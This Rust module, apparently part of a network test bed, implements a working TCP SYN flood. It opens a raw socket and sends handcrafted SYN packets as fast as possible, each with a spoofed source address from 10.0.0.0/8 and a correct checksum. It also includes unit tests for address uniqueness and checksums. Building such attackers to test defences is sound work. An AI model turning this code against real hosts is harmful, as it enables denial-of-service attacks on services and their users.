//! An attacker: SYNs from very many addresses, none of which ever answers.

use std::net::{Ipv4Addr, SocketAddrV4};
use std::os::fd::{AsRawFd, OwnedFd};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::{self, JoinHandle};

use anyhow::{Context, Result, bail};
use nix::errno::Errno;
use nix::sys::socket::{
    AddressFamily, MsgFlags, SockFlag, SockProtocol, SockType, SockaddrIn, sendto, socket,
};

use netbed::Host;

/// IPv4 and TCP, both without options.
const PACKET_BYTES: usize = 40;

/// A running flood.
#[derive(Debug)]
pub struct Flood {
    stopping: Arc<AtomicBool>,
    sent: Arc<AtomicU64>,
    thread: JoinHandle<Result<()>>,
}

impl Flood {
    /// Begins to send SYNs to `target` from a host, as many as the machine
    /// gives, each with another address of 10.0.0.0/8 for its source.
    ///
    /// # Errors
    /// When the kernel refuses a raw socket.
    pub fn start(host: &Host, target: SocketAddrV4) -> Result<Self> {
        let socket = host
            .within(|| {
                socket(
                    AddressFamily::Inet,
                    SockType::Raw,
                    SockFlag::SOCK_CLOEXEC,
                    SockProtocol::Raw,
                )
            })
            .context("no raw socket (needs CAP_NET_RAW)")?;
        let stopping = Arc::new(AtomicBool::new(false));
        let sent = Arc::new(AtomicU64::new(0));
        let (stop, count) = (Arc::clone(&stopping), Arc::clone(&sent));
        let thread = thread::spawn(move || send(&socket, target, &stop, &count));
        Ok(Self {
            stopping,
            sent,
            thread,
        })
    }

    /// How many SYNs have been sent so far.
    #[must_use]
    pub fn sent(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }

    /// Ends it and returns how many SYNs were sent.
    ///
    /// # Errors
    /// When the raw socket failed.
    pub fn stop(self) -> Result<u64> {
        self.stopping.store(true, Ordering::Relaxed);
        self.thread.join().expect("sending does not panic")?;
        Ok(self.sent.load(Ordering::Relaxed))
    }
}

fn send(socket: &OwnedFd, target: SocketAddrV4, stop: &AtomicBool, sent: &AtomicU64) -> Result<()> {
    let to = SockaddrIn::from(target);
    let mut number = 0;
    while !stop.load(Ordering::Relaxed) {
        match sendto(
            socket.as_raw_fd(),
            &syn(number, target),
            &to,
            MsgFlags::empty(),
        ) {
            Ok(_) => {
                number += 1;
                sent.store(number, Ordering::Relaxed);
            }
            Err(Errno::ENOBUFS | Errno::EINTR) => {}
            Err(error) => bail!("the raw socket failed: {error}"),
        }
    }
    Ok(())
}

/// The SYN of a number. The kernel fills in the IP header's checksum and
/// identification (raw(7)).
fn syn(number: u64, target: SocketAddrV4) -> [u8; PACKET_BYTES] {
    // Odd, so that 16 million numbers give as many addresses.
    const SCATTER: u32 = 0x9E_3779;
    let number = number as u32;
    let source = Ipv4Addr::from(10 << 24 | number.wrapping_mul(SCATTER) & 0xFF_FFFF);
    let port = 1024 | (number >> 8) as u16;

    let mut packet = [0; PACKET_BYTES];
    packet[0] = 0x45;
    packet[2..4].copy_from_slice(&(PACKET_BYTES as u16).to_be_bytes());
    packet[8] = 64;
    packet[9] = 6;
    packet[12..16].copy_from_slice(&source.octets());
    packet[16..20].copy_from_slice(&target.ip().octets());
    let tcp = &mut packet[20..];
    tcp[..2].copy_from_slice(&port.to_be_bytes());
    tcp[2..4].copy_from_slice(&target.port().to_be_bytes());
    tcp[4..8].copy_from_slice(&number.to_be_bytes());
    tcp[12] = 5 << 4;
    tcp[13] = 0x02;
    tcp[14..16].copy_from_slice(&u16::MAX.to_be_bytes());
    let checksum = checksum(&packet);
    packet[36..38].copy_from_slice(&checksum.to_be_bytes());
    packet
}

/// The TCP checksum of a packet whose own is still zero (RFC 9293 §3.1).
fn checksum(packet: &[u8; PACKET_BYTES]) -> u16 {
    let words = packet[12..]
        .chunks_exact(2)
        .map(|word| u32::from(u16::from_be_bytes([word[0], word[1]])));
    let protocol_and_length = 6 + 20;
    let sum = words.sum::<u32>() + protocol_and_length;
    let folded = (sum >> 16) + (sum & 0xFFFF);
    !((folded >> 16) + (folded & 0xFFFF)) as u16
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use super::*;

    const TARGET: SocketAddrV4 = SocketAddrV4::new(Ipv4Addr::new(172, 16, 1, 200), 1935);

    #[test]
    fn no_two_syns_have_one_address() {
        let sources: HashSet<_> = (0..100_000)
            .map(|number| syn(number, TARGET)[12..16].to_vec())
            .collect();
        assert_eq!(sources.len(), 100_000);
    }

    #[test]
    fn the_checksum_is_the_one_that_a_receiver_computes() {
        for number in [0, 1, 77_777] {
            let packet = syn(number, TARGET);
            // Over everything, its own included, it is zero.
            assert_eq!(checksum(&packet), 0, "{number}");
        }
    }
}
